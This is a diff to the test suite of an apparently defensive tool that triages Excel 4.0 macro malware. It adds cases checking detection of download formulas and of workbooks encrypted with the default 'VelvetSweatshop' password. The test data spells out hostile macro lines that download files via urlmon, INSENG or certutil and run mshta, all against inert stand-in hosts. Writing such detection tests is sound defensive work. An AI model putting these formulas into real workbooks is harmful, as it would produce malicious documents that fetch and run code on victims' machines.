@@ -10,6 +10,7 @@ from emotriage.model.blob import Blob
 from emotriage.model.finding import Finding, Trait
 from emotriage.model.indicator import Indicator
 from emotriage.model.limits import Budget, Limits
+from emotriage.model.passwords import Opened, Passwords
 from emotriage.testing.compound_file import compound_file
 from emotriage.testing.document import document
 from emotriage.testing.workbook import workbook
@@ -68,6 +69,7 @@ def test_a_hidden_sheet_that_starts_and_runs_something(format):  # noqa: A002
         (['=CALL("lib","Function","JJ",0)'], "names-library"),
         (['=CALL(GET.WORKSPACE(23)&"\\LIB.DLL","Function","JJ",0)'], "names-library"),
         (['=REGISTER("lib","Function","JJ","called",,1,9)'], "names-library"),
+        (['=CALL("INSENG","DownloadFile","BCCJ",A1,A2,1)'], "downloads"),
         (['=OPEN("http://host.invalid/a.xls")'], "opens-remote"),
         (['=CALL("urlmon","URLDown"&"loadToFileA","JJCCJJ",0,A1,A2,0,0)'], "downloads"),
         (['=EXEC("certutil -urlcache -f http://host.invalid/a b")'], "downloads"),
@@ -132,6 +134,7 @@ def test_what_a_sheet_does_with_its_constants(formulas, rule, format):  # noqa: 
         ['=ALERT("a"&CHAR(13)&"b"&CHAR(13)&"c")'] * 40,
         ['=FOR("i",1,9)', '=FORMULA("=B"&B9,B1)', "=NEXT()", '=ALERT("a"&CHAR(13)&"b")'],
         ['=FOPEN("list.txt",2)', "=FREADLN(A1)"],
+        ["=RETURN(A1)"],
         ['=FORMULA("Sales of "&B1&" in "&B2,C1)'] * 8,
         ['=FORMULA(LEFT("Monday",3)&" total",C1)'] * 8,
         ["=IF(GET.WORKSPACE(13)<600,A9)", "=IF(GET.WORKSPACE(1)=B1,A9)", "=APP.MAXIMIZE()"],
@@ -297,3 +300,23 @@ def test_a_large_sheet_costs_linear_work():
         look(book(*['=IF(A1="x",EXEC("emotriage-inert "&CHAR(65)),B1)'] * count), budget)
         works.append(budget.work)
     assert works[1] <= 2.1 * works[0]
+
+
+@pytest.mark.parametrize(("password", "opened"), [("VelvetSweatshop", True), ("secret", False)])
+def test_an_encrypted_workbook_is_read_by_the_default_password(password, opened):
+    data = book('=EXEC("mshta emotriage-inert.invalid")', password=password)
+    found = set(findings(data))
+    assert ("default-password" in found) is opened
+    assert ("runs-interpreter" in found) is opened
+    assert ("encrypted-workbook" in found) is not opened
+    assert ([one.source for one in look(data) if isinstance(one, Opened)] == ["well-known"]) is opened
+
+
+def test_an_encrypted_workbook_is_read_by_a_candidate():
+    data = book('=EXEC("mshta emotriage-inert.invalid")', password="secret")
+    subject = Subject(Blob(data), "ole", "sample", Budget(Limits()), Passwords.of(["no", "secret"]))
+    found = list(ANALYZER.run(subject))
+    assert Opened("caller") in found
+    rules = {one.rule for one in found if isinstance(one, Finding)}
+    assert "xlm.runs-interpreter" in rules
+    assert not {"xlm.default-password", "xlm.encrypted-workbook"} & rules
